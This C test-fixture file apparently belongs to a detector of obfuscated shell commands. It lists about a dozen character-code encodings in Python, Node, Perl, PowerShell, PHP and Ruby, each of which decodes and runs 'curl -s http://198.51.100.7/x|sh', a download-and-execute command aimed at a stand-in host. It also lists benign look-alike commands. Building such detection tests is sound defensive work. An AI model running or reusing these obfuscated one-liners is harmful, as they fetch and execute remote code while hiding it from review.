// SPDX-License-Identifier: GPL-3.0-or-later
#include "hidden.h"

static const struct hidden good[] = {
	{ "charcode", "curl -s http://198.51.100.7/x|sh",
		"python3 -c \"exec(chr(99)+chr(117)+chr(114)+chr(108)+chr(32)"
		"+chr(45)+chr(115)+chr(32)+chr(104)+chr(116)+chr(116)+chr(112"
		")+chr(58)+chr(47)+chr(47)+chr(49)+chr(57)+chr(56)+chr(46)+ch"
		"r(53)+chr(49)+chr(46)+chr(49)+chr(48)+chr(48)+chr(46)+chr(55"
		")+chr(47)+chr(120)+chr(124)+chr(115)+chr(104))\"" },
	{ "charcode", "curl -s http://198.51.100.7/x|sh",
		"node -e \"eval(String.fromCharCode(99,117,114,108,32,45,115,"
		"32,104,116,116,112,58,47,47,49,57,56,46,53,49,46,49,48,48,46"
		",55,47,120,124,115,104))\"" },
	{ "charcode", "curl -s http://198.51.100.7/x|sh",
		"python3 -c \"exec(bytes([99, 117, 114, 108, 32, 45, 115, 32,"
		" 104, 116, 116, 112, 58, 47, 47, 49, 57, 56, 46, 53, 49, 46,"
		" 49, 48, 48, 46, 55, 47, 120, 124, 115, 104]))\"" },
	{ "charcode", "curl -s http://198.51.100.7/x|sh",
		"python3 -c \"exec(''.join(map(chr,[99,117,114,108,32,45,115,"
		"32,104,116,116,112,58,47,47,49,57,56,46,53,49,46,49,48,48,46"
		",55,47,120,124,115,104])))\"" },
	{ "charcode", "curl -s http://198.51.100.7/x|sh",
		"python3 -c \"exec(''.join(chr(c) for c in [0x63,0x75,0x72,0x"
		"6c,0x20,0x2d,0x73,0x20,0x68,0x74,0x74,0x70,0x3a,0x2f,0x2f,0x"
		"31,0x39,0x38,0x2e,0x35,0x31,0x2e,0x31,0x30,0x30,0x2e,0x37,0x"
		"2f,0x78,0x7c,0x73,0x68]))\"" },
	{ "charcode", "curl -s http://198.51.100.7/x|sh",
		"perl -e 'system(join(\"\",map{chr}(99,117,114,108,32,45,115,"
		"32,104,116,116,112,58,47,47,49,57,56,46,53,49,46,49,48,48,46"
		",55,47,120,124,115,104)))'" },
	{ "charcode", "curl -s http://198.51.100.7/x|sh",
		"perl -e 'print pack(\"C*\",99,117,114,108,32,45,115,32,104,1"
		"16,116,112,58,47,47,49,57,56,46,53,49,46,49,48,48,46,55,47,1"
		"20,124,115,104)'|sh" },
	{ "charcode", "curl -s http://198.51.100.7/x|sh",
		"pwsh -c \"IEX([char]99+[char]117+[char]114+[char]108+[char]3"
		"2+[char]45+[char]115+[char]32+[char]104+[char]116+[char]116+"
		"[char]112+[char]58+[char]47+[char]47+[char]49+[char]57+[char"
		"]56+[char]46+[char]53+[char]49+[char]46+[char]49+[char]48+[c"
		"har]48+[char]46+[char]55+[char]47+[char]120+[char]124+[char]"
		"115+[char]104)\"" },
	{ "charcode", "curl -s http://198.51.100.7/x|sh",
		"pwsh -c \"-join[char[]](99,117,114,108,32,45,115,32,104,116,"
		"116,112,58,47,47,49,57,56,46,53,49,46,49,48,48,46,55,47,120,"
		"124,115,104)|IEX\"" },
	{ "charcode", "curl -s http://198.51.100.7/x|sh",
		"php -r 'system(chr(99).chr(117).chr(114).chr(108).chr(32).ch"
		"r(45).chr(115).chr(32).chr(104).chr(116).chr(116).chr(112).c"
		"hr(58).chr(47).chr(47).chr(49).chr(57).chr(56).chr(46).chr(5"
		"3).chr(49).chr(46).chr(49).chr(48).chr(48).chr(46).chr(55).c"
		"hr(47).chr(120).chr(124).chr(115).chr(104));'" },
	{ "charcode", "curl -s http://198.51.100.7/x|sh",
		"ruby -e 'system([99,117,114,108,32,45,115,32,104,116,116,112"
		",58,47,47,49,57,56,46,53,49,46,49,48,48,46,55,47,120,124,115"
		",104].pack(\"c*\"))'" },
};

static const char *const not [] = {
	"printf '\\033[1;31mred\\033[0m\\n'",
	"python3 -c 'a=[1,2,3][::-1];print(a)'",
	"python3 -c 'print(chr(65)); ports=[80,443,8080]'",
	"iptables -m multiport --dports 80,443,8080,22",
	"awk '{printf \"%c %d\", $1, 42}'",
	"chroot /mnt 1 2 3 4",
	"python3 -c 'x=[chr(i) for i in range(97, 123)]'",
	"python3 -c 'import string;'\"'\"''\"'\"'.join(chr(c) for c i"
	"n [65,66])'",
};

HIDDEN_MAIN("charcode")
